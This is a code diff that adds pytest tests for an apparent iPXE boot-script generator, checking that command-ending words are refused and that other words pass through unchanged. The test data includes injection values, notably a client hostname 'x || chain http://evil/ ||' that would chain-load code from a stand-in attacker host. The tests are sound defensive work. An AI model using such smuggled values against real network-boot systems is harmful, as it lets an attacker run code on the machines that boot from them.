@@ -117,3 +117,22 @@ def test_a_message_is_shown_and_obeyed_by_nobody():
     text = script(Profile("p", kernel="linux", message="hi || shell\n${ip} \x1b[2J"))
 
     assert text.splitlines()[2:4] == ["echo hi | | shell", "echo $ {ip} ?[2J"]
+
+
+@pytest.mark.parametrize("word", ["a || b", "&&", "x ;", "#c", "a #c", "a\nb", "\r"])
+def test_a_word_that_would_end_ipxes_command_is_refused(word):
+    """Seen with iPXE 1.21.1: `echo Q2 a #b c` says `Q2 a`, `echo Q4 a;b` says `Q4 a;b`."""
+    with pytest.raises(PxectlError, match="iPXE would end the command"):
+        script(replace(TWO, cmdline=(word,)))
+
+
+@pytest.mark.parametrize("word", ['a="b c"', "a;b", "a#b", "'d'", "\\e", "a||b", "${net0/mac}"])
+def test_other_words_go_as_they_are(word):
+    assert f"quiet {word} ||" in script(replace(TWO, cmdline=("quiet", word)))
+
+
+def test_what_a_client_says_of_itself_runs_no_command():
+    hostile = replace(EFI, hostname="x || chain http://evil/ ||")
+
+    with pytest.raises(PxectlError, match="iPXE would end the command"):
+        script(replace(TWO, cmdline=("host={{ client.hostname }}",)), hostile)
